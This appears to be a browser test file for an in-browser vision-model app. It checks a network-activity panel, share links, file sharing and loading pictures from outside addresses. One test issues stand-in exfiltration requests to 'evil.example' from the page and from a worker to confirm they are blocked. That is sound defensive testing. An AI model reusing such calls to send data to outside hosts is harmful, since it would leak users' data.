// The list of network activity, links that carry settings, sharing, pictures from addresses.

import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { answered, ask, asked, counted, open, openNano, openPicture, slide, DEEP_SITE, LONG, URL_OF_NANO } from "./page.mjs";
import { origin, site } from "./origins.mjs";

const OTHER = join(DEEP_SITE, "samples/cat.jpg");

describe("proof on the page: the list of network activity", () => {
  let browser, page;

  before(async () => {
    browser = await openNano();
    ({ page } = browser);
    await openPicture(page, OTHER);
    await answered(page, await ask(page, "How many objects are there?"));
    await page.getByTestId("about").click();
    await page.getByTestId("network").locator("summary").click();
  });

  after(() => browser?.close());

  const rows = () =>
    page.evaluate(() =>
      [...document.querySelectorAll('[data-testid="network-host"]')].map(({ dataset, cells }) => ({
        host: dataset.host,
        own: dataset.own,
        requests: Number(cells[1].innerText),
        sent: Number(cells[3].dataset.bytes),
        blocked: Number(cells[4].innerText),
      })),
    );

  test("after a picture and a question no foreign host is listed and nothing was uploaded", async () => {
    const [own, ...others] = await rows();
    assert.deepEqual(others, []);
    assert.deepEqual([own.own, own.sent, own.blocked], ["true", 0, 0]);
    assert.equal(own.host, new URL(URL_OF_NANO).host);
    const seen = await page.evaluate(() => JSON.parse(networkReport()));
    const paths = seen.requests.map(({ url }) => new URL(url).pathname.split("/").pop());
    for (const file of ["page_bg.wasm", "style.css", "worker_bg.wasm", "model.json"]) {
      assert.ok(paths.includes(file), `${file} is not among ${paths}`);
    }
    assert.equal(seen.worker, true, "the worker reports");
    assert.equal(await page.getByTestId("network-sent").innerText(), "0 bytes left this page.");
    assert.deepEqual(browser.seen.foreign, []);
  });

  test("a foreign request is blocked and listed as such, in page and worker", async () => {
    await page.evaluate(() => fetch("https://evil.example/page?secret").catch(() => {}));
    const [worker] = page.workers();
    await worker.evaluate(() => fetch("https://evil.example/worker").catch(() => {}));
    await page.waitForFunction(() => document.querySelector('[data-host="evil.example"]')?.cells[4].innerText === "2");
    const evil = (await rows()).find(({ host }) => host === "evil.example");
    assert.deepEqual(evil, { host: "evil.example", own: "false", requests: 0, sent: 0, blocked: 2 });
    assert.equal(await page.getByTestId("network-sent").innerText(), "0 bytes left this page.");
  });

  test("a body that is sent is counted, and the list can be copied", async () => {
    await page.evaluate(() => fetch("start.js", { method: "POST", body: "12345" }).catch(() => {}));
    const [worker] = page.workers();
    await worker.evaluate(() => {
      const request = new XMLHttpRequest();
      request.open("POST", "start.js");
      request.send(new Blob(["1234567"]));
    });
    await page.waitForFunction(
      () => document.querySelector('[data-testid="network-sent"]').innerText === "12 bytes left this page.",
    );
    assert.equal((await rows())[0].sent, 12);
    await page.evaluate(() => {
      Object.defineProperty(navigator, "clipboard", { value: { writeText: async (text) => (self.copied = text) } });
    });
    await page.getByTestId("network-copy").click();
    const text = await page.waitForFunction(() => self.copied).then((copied) => copied.jsonValue());
    assert.match(text, /evil\.example: requests 0, received 0 bytes, sent 0 bytes, blocked 2/);
    assert.match(text, /Not counted:/);
  });
});

describe("share", () => {
  let browser, page;

  // Stands for the system's dialog.
  function system() {
    self.shared = [];
    navigator.canShare = ({ files }) => files?.length === 1;
    navigator.share = async ({ files, title }) => {
      self.shared.push({ title, name: files[0].name, type: files[0].type, text: await files[0].text() });
    };
    Object.defineProperty(navigator, "clipboard", { value: { writeText: async (text) => (self.copied = text) } });
  }

  before(async () => {
    browser = await open({ webgpu: false });
    ({ page } = browser);
    await page.addInitScript(system);
    await page.goto(URL_OF_NANO);
    await answered(page, 0);
  });

  after(() => browser?.close());

  test("a link carries settings and prompt only, and opens with them", async () => {
    await slide(page, "score-slider", "0.45");
    await page.getByTestId("chip-find").click();
    await page.getByTestId("question").fill("red dog; cat & co");
    await page.getByTestId("export").click();
    await page.getByTestId("share-link").click();
    const link = await page.waitForFunction(() => self.copied).then((copied) => copied.jsonValue());
    const { hash, search } = new URL(link);
    assert.equal(search, "?model=nano");
    const fields = Object.fromEntries(new URLSearchParams(hash.slice(1)));
    assert.deepEqual(Object.keys(fields).filter((key) => key !== "first"), ["kind", "prompt", "granularity", "score", "nms"]);
    assert.equal(fields.prompt, "red dog; cat & co");
    assert.ok(link.length < 300, link);

    const other = await open({ webgpu: false });
    try {
      const requests = [];
      other.context.on("request", (request) => requests.push(request.url()));
      await other.page.goto(link);
      await other.page.waitForFunction(() => document.querySelector("#question")?.value === "red dog; cat & co", null, { timeout: LONG });
      assert.equal(await other.page.getByTestId("score-slider").inputValue(), "0.45");
      assert.equal(new URL(other.page.url()).hash, "", "a reload does not take it again");
      assert.equal((await asked(other.page, "Ask")).length, 0, "it is not asked");
      assert.ok(requests.length > 0 && requests.every((url) => !url.includes("dog")), "the question is not sent to the host");
    } finally {
      await other.close();
    }
  });

  test("the system shares the saved conversation as a file", async () => {
    await page.getByTestId("share-file").click();
    await page.waitForFunction(() => self.shared.length === 1);
    const [{ name, type, text }] = await page.evaluate(() => self.shared);
    assert.match(name, /\.html$/);
    assert.equal(type, "text/html");
    const question = (await asked(page, "Ask"))[0].question;
    assert.ok(text.includes(question), question);
    assert.match(text, /data:image\/png;base64,/);
  });
});

test("without a share dialog of the system there is no button for it", async () => {
  const browser = await open({ webgpu: false });
  const { page } = browser;
  try {
    await page.addInitScript(() => {
      delete Navigator.prototype.canShare;
      delete Navigator.prototype.share;
    });
    await page.goto(URL_OF_NANO);
    await answered(page, 0);
    await page.getByTestId("export").click();
    await page.getByTestId("share-link").waitFor();
    await counted(page.getByTestId("share-file"), 0);
  } finally {
    await browser.close();
  }
});

test("from URL: where the policy allows other hosts there is a field; a refusal is said in a sentence", async () => {
  const picture = await readFile(OTHER);
  const pictures = await origin({
    "open.jpg": { body: picture, headers: { "Access-Control-Allow-Origin": "*" } },
    "closed.jpg": { body: picture },
  });
  const chatrex = await site({ policy: (text) => text.replace("connect-src 'self'", "connect-src 'self' http: https:") });
  const browser = await open({ webgpu: false, serviceWorkers: "block" });
  const { page } = browser;
  try {
    await page.goto(`${chatrex.url}/?model=nano`);
    await answered(page, 0);
    await page.getByTestId("new").click();
    const field = page.getByTestId("picture-address");
    await field.waitFor();
    await field.getByRole("textbox").fill(`${pictures.url}/closed.jpg`);
    await field.getByRole("button").click();
    const problem = page.getByText("does not let other pages read");
    await problem.waitFor();
    assert.match(await problem.innerText(), /That site does not let other pages read its pictures\. Save it and drop it here\./);
    await field.getByRole("textbox").fill(`${pictures.url}/open.jpg`);
    await field.getByRole("button").click();
    await page.waitForFunction(() => document.querySelector('[data-testid="box"]'), null, { timeout: LONG });
    assert.ok(pictures.log.some(({ path }) => path === "open.jpg"));
  } finally {
    await browser.close();
    await Promise.all([pictures.close(), chatrex.close()]);
  }
});
